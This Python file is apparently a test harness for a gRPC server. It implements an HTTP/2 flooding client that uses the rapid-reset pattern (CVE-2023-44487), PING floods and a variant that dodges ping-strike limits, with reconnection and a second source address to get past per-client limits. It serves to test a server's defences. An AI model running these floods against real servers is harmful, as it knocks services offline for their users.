"""A hostile HTTP/2 client for the abuse tests: one plaintext (h2c, prior knowledge) connection
that floods a gRPC server without credentials, framed by hand with the standard library.

Modes:
  rapid-reset   HEADERS for a GetDevice call, then RST_STREAM(CANCEL), in a loop (the
                CVE-2023-44487 pattern)
  ping          PING frames as fast as the socket takes them
  ping-refused  a call the server refuses (HEADERS with END_STREAM, no token) between every
                few PINGs, so the server keeps sending headers (which reset chttp2's ping strikes)

Run as a program it floods for --seconds (or until the server closes the connection) and prints
one JSON line: what it sent, whether the server closed the connection (and after how long),
and the GOAWAY it got, if any. With --reconnect it opens a new connection each time the server
closes one, until --seconds are over, and reports the first connection and the totals. A separate process, so the flood does not share a Python
interpreter (and its lock) with the client that measures the server.
"""
import argparse
import json
import socket
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8
# Whether a mode's connection reads the server's answers: whichever hurt dermad more (gRPC 1.51,
# measured): unread answers to reset streams pile up in the server (785 MiB in 10 s), while
# unread PING acks make it stop reading pings at all.
READS_ANSWERS = {"rapid-reset": False, "ping": True, "ping-refused": True}


def frame(kind, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(
        ">I", stream_id) + payload


def literal(name, value):
    """An HPACK literal header field without indexing, new name (RFC 7541 6.2.2), short strings."""
    name, value = name.encode(), value.encode()
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes((len(name),)) + name + bytes((len(value),)) + value


def call_headers(authority, path="/derma.v1.DeviceControl/GetDevice"):
    return b"".join(literal(n, v) for n, v in (
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", authority),
        ("content-type", "application/grpc"), ("te", "trailers")))


class Flood:
    """One flooding connection. Thread-compatible: start() once, then wait()."""

    def __init__(self, host, port, mode, seconds, source="127.0.0.2"):
        self.mode, self.seconds, self.read = mode, seconds, READS_ANSWERS[mode]
        # From another loopback address than the honest clients, as from another machine: a
        # front that limits per client address must not count them together.
        self.sock = socket.create_connection((host, port), timeout=5,
                                             source_address=(source, 0) if source else None)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.block = call_headers(f"{host}:{port}")
        self.next_stream = 1
        self.sent_frames = 0
        self.closed_after_s = None  # seconds from the start until the server closed
        self.goaway = None          # (error code, debug data) of the server's GOAWAY
        self.received_bytes = 0
        self._start = None
        self._stopping = False  # we close the socket: its end is not the server's doing
        self._reader = threading.Thread(target=self._read, daemon=True)

    def _read(self):
        """Reads what the server sends, noting its GOAWAY; in a mode that leaves the answers
        unread, only a little at a time."""
        buffer = b""
        while True:
            if not self.read:
                time.sleep(0.05)
            try:
                chunk = self.sock.recv(1 << 16 if self.read else 1024)
            except OSError:
                chunk = b""
            if not chunk:
                if self.closed_after_s is None and not self._stopping:
                    self.closed_after_s = time.monotonic() - self._start
                return
            self.received_bytes += len(chunk)
            buffer += chunk
            while len(buffer) >= 9:
                length = int.from_bytes(buffer[:3], "big")
                if len(buffer) < 9 + length:
                    break
                if buffer[3] == GOAWAY and self.goaway is None:
                    payload = buffer[9:9 + length]
                    self.goaway = (int.from_bytes(payload[4:8], "big"),
                                   payload[8:].decode(errors="replace"))
                buffer = buffer[9 + length:]

    def _batch(self):
        """About 64 KiB of frames for the mode."""
        if self.mode == "ping":
            return frame(PING, 0, 0, b"derma-p!") * 4096, 4096
        parts, count = [], 0
        for _ in range(256):
            sid = self.next_stream
            self.next_stream += 2
            if self.mode == "rapid-reset":
                parts.append(frame(HEADERS, END_HEADERS, sid, self.block))
                parts.append(frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL)))
                count += 2
            else:  # ping-refused: a refused call, then pings that the server's headers forgive
                parts.append(frame(HEADERS, END_HEADERS | END_STREAM, sid, self.block))
                parts.append(frame(PING, 0, 0, b"derma-p!") * 4)
                count += 5
        return b"".join(parts), count

    def start(self):
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.sock.settimeout(None)
        self._start = time.monotonic()
        self._reader.start()
        self._thread = threading.Thread(target=self._send, daemon=True)
        self._thread.start()

    def _send(self):
        deadline = self._start + self.seconds
        while time.monotonic() < deadline and self.closed_after_s is None:
            if self.next_stream > (1 << 31) - 600:
                break  # stream ids exhausted: a real attacker reconnects
            data, count = self._batch()
            try:
                self.sock.sendall(data)
            except OSError:
                if self.closed_after_s is None and not self._stopping:
                    self.closed_after_s = time.monotonic() - self._start
                break
            self.sent_frames += count

    def wait(self):
        """Waits for the flood to end; returns its report (a dict)."""
        # A server that stops reading blocks sendall; closing the socket ends it.
        self._thread.join(timeout=self.seconds + 1)
        self._stopping = True
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self._thread.join()
        self._reader.join(timeout=5)
        self.sock.close()
        elapsed = time.monotonic() - self._start
        return {"mode": self.mode, "sent_frames": self.sent_frames,
                "frames_per_s": round(self.sent_frames / max(elapsed, 1e-6)),
                "streams": (self.next_stream - 1) // 2,
                "server_closed_after_s": self.closed_after_s,
                "goaway": self.goaway, "received_bytes": self.received_bytes}


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--mode", choices=("rapid-reset", "ping", "ping-refused"), required=True)
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--source", default="127.0.0.2", help="local address to connect from")
    parser.add_argument("--reconnect", action="store_true",
                        help="open a new connection whenever the server closes one")
    args = parser.parse_args()
    deadline = time.monotonic() + args.seconds
    flood = Flood(args.host, args.port, args.mode, args.seconds, args.source)
    flood.start()
    report = flood.wait()
    report["connections"], report["total_frames"] = 1, report["sent_frames"]
    while args.reconnect and time.monotonic() < deadline - 0.01:
        try:
            again = Flood(args.host, args.port, args.mode, deadline - time.monotonic(),
                          args.source)
        except OSError:
            time.sleep(0.01)  # refused (e.g. too many connections): try again
            continue
        again.start()
        report["connections"] += 1
        report["total_frames"] += again.wait()["sent_frames"]
    print(json.dumps(report), flush=True)


if __name__ == "__main__":
    main()
